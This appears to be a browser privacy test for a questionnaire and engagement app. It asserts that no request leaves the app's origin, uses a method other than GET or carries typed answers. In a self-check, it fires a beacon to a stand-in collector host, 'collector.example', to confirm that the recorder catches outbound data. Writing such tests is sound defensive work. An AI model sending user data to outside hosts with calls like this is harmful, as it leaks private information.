// privacy.test.mjs — nothing the user types leaves the browser. Every request made while using the app (the
// runner with a template: answer, review, download; the engagement editor: create, export one, export all) is
// recorded, in the browser (page and service worker) and at the server. Only the app's own static files may be
// fetched, from its own origin, with GET: no other origin, no POST, no beacon, no query with answers in it.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";

import { serve } from "./static-server.mjs";
import { launch, open, waitReady, click, waitItem, typeKeys, waitRunner, recordRequests, screenshot, SITE } from "./browser.mjs";

let browser, server;
before(async () => {
  server = await serve(SITE);
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

/** The site's own files, as paths the server can be asked for. */
function siteFiles() {
  const files = new Set(["/"]);
  const walk = (dir, prefix) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      if (entry.isDirectory()) walk(path.join(dir, entry.name), prefix + entry.name + "/");
      else files.add(prefix + entry.name);
    }
  };
  walk(SITE, "/");
  return files;
}

function assertOnlyOwnStaticFiles(seen, typed) {
  const origin = new URL(server.url).origin;
  const files = siteFiles();
  assert.ok(seen.length > 3, "requests were recorded");
  for (const r of seen) {
    const url = new URL(r.url);
    if (url.protocol === "blob:" || url.protocol === "data:") continue;  // made in the page, never sent
    assert.equal(url.origin, origin, `a request left the app's origin: ${r.method} ${r.url}`);
    assert.equal(r.method, "GET", `only GET is allowed: ${r.method} ${r.url}`);
    assert.ok(!r.body, `a request carried a body: ${r.url}`);
    assert.ok(files.has(url.pathname), `not one of the site's static files: ${url.pathname}`);
    for (const t of typed) assert.ok(!decodeURIComponent(r.url).includes(t), `typed text in a URL: ${r.url}`);
  }
  for (const p of server.requests) assert.ok(files.has(p.split("?")[0]), `the server was asked for ${p}`);
}

test("the runner: answering, autosave and downloading the answers fetch only the app's own files", async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
  const seen = await recordRequests(context, new URL(server.url).origin);
  const { page, problems } = await open(context, server.url + "?q=general");
  await waitReady(page);
  await waitRunner(page, (r) => r.status === "ready", "the questionnaire");
  await click(page, "Start");
  await waitRunner(page, (r) => r.page === "section", "the first section");
  await click(page, "Organisation name");
  await typeKeys(page, "Secretcorp");
  await page.keyboard.press("Tab");
  await typeKeys(page, "Agent Smith");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await typeKeys(page, "smith@secret.example");
  await waitRunner(page, (r) => r.answers.contact_email === "smith@secret.example", "typed answers");
  await page.waitForTimeout(1200);  // autosave
  await click(page, "Next");
  await click(page, "Review and send");
  await waitRunner(page, (r) => r.page === "review", "the review page");
  const [download] = await Promise.all([page.waitForEvent("download"), click(page, "Download answers")]);
  assert.match(download.suggestedFilename(), /^secretcorp-.*\.json$/);
  await page.waitForTimeout(500);
  await screenshot(page, "privacy-runner-review");
  assertOnlyOwnStaticFiles(seen, ["Secretcorp", "Agent Smith", "smith@secret"]);
  assert.deepEqual(problems, []);
  await context.close();
});

test("the engagement editor: creating and exporting fetch only the app's own files", async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
  const seen = await recordRequests(context, new URL(server.url).origin);
  const { page, problems } = await open(context, server.url + "?view=engagements");
  await waitReady(page);
  await click(page, "New engagement");
  await waitItem(page, "Create");
  await typeKeys(page, "Classified rollout");
  await click(page, "Create");
  await waitItem(page, "Export engagement");
  const [one] = await Promise.all([page.waitForEvent("download"), click(page, "Export engagement")]);
  const file = await one.path();
  assert.match(fs.readFileSync(file, "utf8"), /Classified rollout/);
  await page.waitForTimeout(1500);  // autosave
  await click(page, "\u2190 All engagements");
  const [all] = await Promise.all([page.waitForEvent("download"), click(page, "Export workspace")]);
  assert.match(fs.readFileSync(await all.path(), "utf8"), /scopewright\.workspace/);
  await screenshot(page, "privacy-engagements-board");
  assertOnlyOwnStaticFiles(seen, ["Classified"]);
  assert.deepEqual(problems, []);

  // The recorder itself: a request to another origin and a POST home are caught (so a pass above means something).
  await page.evaluate(() => { navigator.sendBeacon("https://collector.example/t", "x"); fetch("./", { method: "POST", body: "x" }).catch(() => {}); });
  await page.waitForTimeout(500);
  assert.throws(() => assertOnlyOwnStaticFiles(seen, []), /left the app's origin|only GET/);
  await context.close();
});
